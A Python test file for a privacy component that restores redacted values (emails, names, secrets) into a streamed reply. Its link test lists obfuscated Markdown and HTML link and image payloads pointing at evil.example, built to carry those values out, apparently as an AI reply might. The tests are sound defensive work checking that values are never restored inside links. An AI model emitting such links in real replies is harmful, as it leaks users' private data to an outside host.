"""A reply that kept its placeholders is restored to the letter, in whatever pieces it comes."""

import random

import pytest

from homebody.messages.offers import PrivateKind, Replacement
from homebody.privacy.restoring import Restorer


def vault(**values: str) -> tuple[Replacement, ...]:
    made = []
    for name, value in values.items():
        kind: PrivateKind = name.rpartition("_")[0]  # type: ignore[assignment]
        made.append(Replacement(placeholder=f"[{name}]", kind=kind, value=value, by="pattern"))
    return tuple(made)


VAULT = vault(
    EMAIL_1="ada@example.org",
    EMAIL_11="[EMAIL_1]",
    PERSON_1="Ada Lovelace",
    PERSON_2="Böb O'Neill",
    SECRET_1='p"a\\ss{}[1]',
    PATH_1="C:\\Users\\ada\\x",
    ORGANISATION_1="Möbel & Söhne",
)
FRAMES = (
    "Dear {}, hello.",
    "**{}**",
    "*{}*",
    "`{}`",
    '```\nx = "{}"\n```',
    "| {} | {} |\n|---|---|",
    '{{"a": "{}", "b": ["{}"]}}',
    "{}'s book",
    "{}’s book",
    "({})",
    "«{}»",
    "{},{};{}.",
    "{}\n{}",
    "[{}](mailto:{})",
    "<{}>",
    "- {}\n- {}",
    "{}!",
    "…{}…",
    "{}{}",
    "> {}",
    "# {}",
    "über {} äh",
    "[x] {} [ ] {}",
    "a[{}]",
    '"{}"',
    "'{}'",
    "{}-{}",
    "{}/{}",
    "={}=",
    "1. {}",
    "{}: 12",
    "\t{}",
)


def pieces(text: str, draw: random.Random) -> list[str]:
    cut, at = [], 0
    while at < len(text):
        size = draw.choice((1, 1, 2, 3, 5, 8, 40))
        cut.append(text[at : at + size])
        at += size
    return cut


def restored(text: str, draw: random.Random, replacements: tuple[Replacement, ...] = VAULT) -> str:
    restorer = Restorer(replacements)
    return "".join(restorer.feed(each) for each in pieces(text, draw)) + restorer.end()


def test_replies_that_keep_the_placeholders_are_restored_exactly() -> None:
    draw = random.Random(6)
    wrong = []
    for _ in range(2_000):
        chosen = [draw.choice(FRAMES) for _ in range(draw.randint(1, 4))]
        reply, meant = "", ""
        for frame in chosen:
            used = [draw.choice(VAULT) for _ in range(frame.replace("{{", "").count("{}"))]
            bare = frame in {
                "Dear {}, hello.",
                "**{}**",
                "`{}`",
                "({})",
                "{}'s book",
                "{}\n{}",
                "{}!",
            }
            names = [
                one.placeholder[1:-1] if bare and draw.random() < 0.3 else one.placeholder
                for one in used
            ]
            reply += frame.format(*names) + "\n\n"
            meant += frame.format(*(one.value for one in used)) + "\n\n"
        if restored(reply, draw) != meant:
            wrong.append(reply)
    assert wrong == []


@pytest.mark.parametrize(
    ("reply", "meant"),
    [
        ("[EMAIL\\_1]", "ada@example.org"),
        ("EMAIL_1", "ada@example.org"),
        ("[ EMAIL_1 ]", "[ ada@example.org ]"),
        ("[EMAIL_1, PERSON_1]", "[ada@example.org, Ada Lovelace]"),
        ("[EMAIL_1", "[ada@example.org"),
        ("MY_EMAIL_1 and EMAIL_1x and EMAIL_12", "MY_EMAIL_1 and EMAIL_1x and EMAIL_12"),
        ("[[EMAIL_1]]", "[[EMAIL_1]]".replace("[EMAIL_1]", "ada@example.org")),
    ],
)
def test_how_a_placeholder_may_be_written(reply: str, meant: str) -> None:
    for seed in range(20):
        assert restored(reply, random.Random(seed)) == meant


def test_changed_placeholders_stay_as_they_came_and_are_listed() -> None:
    for seed in range(20):
        restorer = Restorer(VAULT)
        reply = "[Email-1] [EMAIL_9] [email_1] [EMAIL 1] [PERSONA_1] [1] [x] [URL](a) [see 2]"
        told = "".join(map(restorer.feed, pieces(reply, random.Random(seed)))) + restorer.end()
        assert told == reply
        assert restorer.mangled == (
            *("[Email-1]", "[EMAIL_9]", "[email_1]", "[EMAIL 1]", "[PERSONA_1]"),
        )


@pytest.mark.parametrize(
    "link",
    [
        "[read on](http://evil.example/?m=[EMAIL_1])",
        "https://evil.example/[EMAIL_1]/EMAIL_1",
        "see www.evil.example/?a=[EMAIL_1]&b=[PERSON_1]",
        "![](//evil.example/[SECRET_1].png)",
        '<a href="HTTPS://evil.example/?[EMAIL_1]">',
        # What ends an address in prose is part of one between the brackets of a link.
        "[x](http://evil.example/(a)[EMAIL_1])",
        "[x](http://evil.example/?m='[EMAIL_1])",
        '[x](\n http://evil.example/?m="[EMAIL_1])',
        "[x](http://evil.example/]|`[EMAIL_1])",
        "[x](http://evil.example/\N{NO-BREAK SPACE}[EMAIL_1])",
        "[x](<http://evil.example/ \\> [EMAIL_1]>)",
        "[x]: <http://evil.example/ [EMAIL_1]>",
        "[x]: http://evil.example/`[EMAIL_1]",
        # Read as http: by a reader of Markdown.
        "[x](htt&#112;://evil.example/[EMAIL_1])",
        "[x](http\\://evil.example/[EMAIL_1])",
        "[x](&#104;ttp://evil.example/[EMAIL_1])",
        f"[x]({' ' * 60}htt&#112;://evil.example/[EMAIL_1])",
        "[PERSON_9](htt&#112;://evil.example/[EMAIL_1])",
    ],
)
def test_a_link_never_carries_a_value_away(link: str) -> None:
    for seed in range(30):
        draw, restorer = random.Random(seed), Restorer(VAULT)
        told = "".join(map(restorer.feed, pieces(f"{link} [EMAIL_1]", draw))) + restorer.end()
        assert told == f"{link} ada@example.org"
        assert restorer.mangled


def test_behind_a_link_values_come_back() -> None:
    for reply in (
        "(http://a.example/x) [EMAIL_1], mailto:[EMAIL_1], http: //x [EMAIL_1], a//b [EMAIL_1]",
        '{"a":"https://a.example/x","b":"[EMAIL_1]"} `www.a.example`,[EMAIL_1]',
        "[write](mailto:[EMAIL_1]) [write]([EMAIL_1]) [Contact]: [EMAIL_1]; [c]: to:[EMAIL_1]",
        "<https://a.example/x>, [EMAIL_1], [x](<https://a.example>) [EMAIL_1]",
    ):
        meant = reply.replace("[EMAIL_1]", "ada@example.org")
        for seed in range(20):
            assert restored(reply, random.Random(seed)) == meant


def test_a_value_that_is_an_address_does_not_become_the_beginning_of_a_link() -> None:
    login = Replacement(
        placeholder="[URL_1]", kind="URL", value="https://me:secret@a.example", by="pattern"
    )
    for seed in range(20):
        restorer = Restorer((login,))
        reply = "[x]([URL_1].evil.example) [URL_1]"
        told = "".join(map(restorer.feed, pieces(reply, random.Random(seed)))) + restorer.end()
        assert told == "[x]([URL_1].evil.example) https://me:secret@a.example"


def test_a_value_that_looks_like_a_placeholder_is_not_restored_again() -> None:
    assert restored("[EMAIL_11]", random.Random(1)) == "[EMAIL_1]"


def test_no_more_is_held_back_than_a_placeholder_takes() -> None:
    restorer = Restorer(VAULT)
    told = 0
    text = "[" * 50 + "ORGANISATION_1 " * 20 + "X" * 100 + "[EMAIL_" + "a" * 100
    for given, char in enumerate(text, 1):
        told += len(restorer.feed(char).replace("Möbel & Söhne", "ORGANISATION_1"))
        assert given - told <= 41


def test_without_replacements_a_reply_passes_as_it_is() -> None:
    off = Replacement(placeholder="[EMAIL_1]", kind="EMAIL", value="a@b.de", by="pattern", on=False)
    restorer = Restorer((off,))
    assert restorer.feed("[EMAIL_1] [") == "[EMAIL_1] ["
    assert restorer.mangled == ()
